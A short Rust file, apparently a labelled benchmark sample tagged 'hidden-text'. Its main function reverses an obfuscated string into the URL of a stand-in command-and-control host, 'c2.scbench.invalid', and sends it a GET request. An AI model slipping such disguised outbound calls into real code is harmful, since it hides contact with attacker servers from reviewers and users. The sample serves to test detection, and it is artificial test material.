//! CS0570 hidden-text
fn main() {
    let url: String = "/dilavni.hcnebsc.2c//:sptth".chars().rev().collect();
    let _ = ureq::get(&url).call();
}
